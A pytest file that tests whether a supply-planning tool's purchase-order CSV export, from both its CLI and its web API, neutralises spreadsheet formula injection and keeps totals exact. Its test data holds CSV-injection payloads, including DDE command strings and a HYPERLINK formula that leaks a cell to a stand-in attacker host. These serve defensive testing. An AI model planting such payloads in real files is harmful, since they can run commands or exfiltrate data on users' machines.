"""Hostile text in the supplier purchase-order CSV (issue 17, item 5.1): formula cells are
neutralised with a leading quote (OWASP CSV injection), numbers stay numbers, totals exact.

The same file comes out of ``quickturn plan export`` and the dashboard's
``/api/v1/plan/purchase-orders.csv``; both are checked."""

from __future__ import annotations

import csv
import io
import json
import shutil
from collections.abc import Iterator
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from pathlib import Path

import polars as pl
import pytest
from fastapi.testclient import TestClient
from typer.testing import CliRunner

from quickturn.cli.app import app
from quickturn.config import Settings
from quickturn.services import plan as svc
from quickturn.services.csvsafe import safe_cell
from quickturn.store import Store, open_store
from quickturn.web import create_app

RID = "plan-20260302-hostile"
#: (title, supplier name) of the seeded SKUs, and what a spreadsheet must receive
HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
#: unit costs: float noise, a half cent, a negative credit line, a big round figure
COSTS = [0.1, 2.675, -12.5, 1234.0, 0.3, 19.99, 7.005]
QTYS = [3, 7, 2, 1000, 3, 11, 13]


def seed(store: Store) -> list[str]:
    """A plan run with one purchase order per hostile title, its supplier renamed alike."""
    skus = store.table("skus", columns=["sku_id", "supplier_id"]).sort("sku_id").head(len(HOSTILE))
    rows = skus.to_dicts()
    for r, text in zip(rows, HOSTILE, strict=True):
        store._exec("UPDATE skus SET title = ? WHERE sku_id = ?", [text, r["sku_id"]])
    # the first SKU's supplier gets a hostile name too
    store._exec(
        "UPDATE suppliers SET name = ? WHERE supplier_id = ?", ["=1+2", rows[0]["supplier_id"]]
    )
    today = date(2026, 3, 2)
    actions = [
        {
            "run_id": RID,
            "action_id": f"{RID}-{i}",
            "kind": "purchase_order",
            "sku_id": r["sku_id"],
            "policy": "heavy",
            "supplier_id": r["supplier_id"],
            "quantity": QTYS[i],
            "order_date": today,
            "expected_arrival": today + timedelta(days=40),
            "unit_cost": COSTS[i],
            "currency": "USD",
            "total_cost_usd": QTYS[i] * COSTS[i],
            "reason": "hostile export test",
        }
        for i, r in enumerate(rows)
    ]
    store.write("plan_actions", pl.DataFrame(actions), mode="append")
    store.write(
        "runs",
        pl.DataFrame(
            {
                "run_id": [RID],
                "module": ["plan"],
                "created_at": [datetime.now(UTC).replace(tzinfo=None) + timedelta(days=3650)],
                "as_of": [today],
                "params": ["{}"],
                "summary": ["{}"],
            }
        ),
        mode="append",
    )
    return [r["sku_id"] for r in rows]


@pytest.fixture()
def hostile_db(demo_db_file: Path, tmp_path: Path) -> Iterator[Path]:
    path = tmp_path / "hostile.duckdb"
    shutil.copyfile(demo_db_file, path)
    store = open_store(path)
    try:
        seed(store)
    finally:
        store.close()
    yield path


def check(text: str) -> None:
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert len(rows) == len(HOSTILE)
    by_title = {r["description"]: r for r in rows}
    # every formula-looking text cell starts with a quote and keeps the text after it
    assert sorted(by_title) == sorted("'" + t for t in HOSTILE)
    assert {r["supplier_name"] for r in rows if r["supplier_name"].startswith("'")} == {"'=1+2"}
    for r in rows:
        for col, value in r.items():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), (col, value)
            if value.startswith("-"):
                Decimal(value)  # a negative number, never quoted
    # amounts: exact cents, negative credit lines stay numbers, line = qty × unit exactly
    for i, title in enumerate(HOSTILE):
        r = by_title["'" + title]
        unit = Decimal(repr(COSTS[i])).quantize(Decimal("0.01"), rounding="ROUND_HALF_UP")
        assert r["unit_price"] == str(unit)
        assert r["line_total"] == str(unit * QTYS[i])
        assert int(r["quantity"]) == QTYS[i]
    neg = by_title["'" + HOSTILE[2]]
    assert neg["unit_price"] == "-12.50" and neg["line_total"] == "-25.00"
    assert by_title["'" + HOSTILE[0]]["line_total"] == "0.30"  # not 0.30000000000000004
    assert by_title["'" + HOSTILE[1]]["unit_price"] == "2.68"  # 2.675 is a half cent


def test_safe_cell_rule() -> None:
    for text in HOSTILE:
        assert safe_cell(text) == "'" + text
    assert safe_cell("-12.50") == "-12.50" and safe_cell("+3") == "+3"
    assert safe_cell(Decimal("-1.25")) == Decimal("-1.25") and safe_cell(-3) == -3
    assert safe_cell("Blue mug = nice") == "Blue mug = nice"
    assert safe_cell("") == "" and safe_cell(None) is None


def test_service_export_neutralises_formulas_and_totals_exact(
    demo_store: Store, tmp_path: Path
) -> None:
    seed(demo_store)
    out = tmp_path / "pos.csv"
    info = svc.export_purchase_orders(demo_store, out, run_id=RID)
    check(out.read_bytes().decode("utf-8"))
    total = info["totals"]["USD"]
    assert isinstance(total, Decimal)
    expected = sum(
        (
            Decimal(repr(c)).quantize(Decimal("0.01"), rounding="ROUND_HALF_UP") * q
            for c, q in zip(COSTS, QTYS, strict=True)
        ),
        Decimal(0),
    )
    assert total == expected


def test_cli_export(hostile_db: Path, tmp_path: Path) -> None:
    out = tmp_path / "pos.csv"
    res = CliRunner().invoke(
        app, ["plan", "export", "--out", str(out), "--db", str(hostile_db), "--json"]
    )
    assert res.exit_code == 0, res.output
    assert json.loads(res.stdout)["run_id"] == RID
    check(out.read_bytes().decode("utf-8"))


def test_web_export(hostile_db: Path) -> None:
    web = create_app(Settings(db=str(hostile_db)), warm_cache=False)
    with TestClient(web, base_url="http://127.0.0.1") as c:
        r = c.get("/api/v1/plan/purchase-orders.csv")
        assert r.status_code == 200, r.text
        check(r.text)
        assert c.get("/plan/purchase-orders.csv").content == r.content
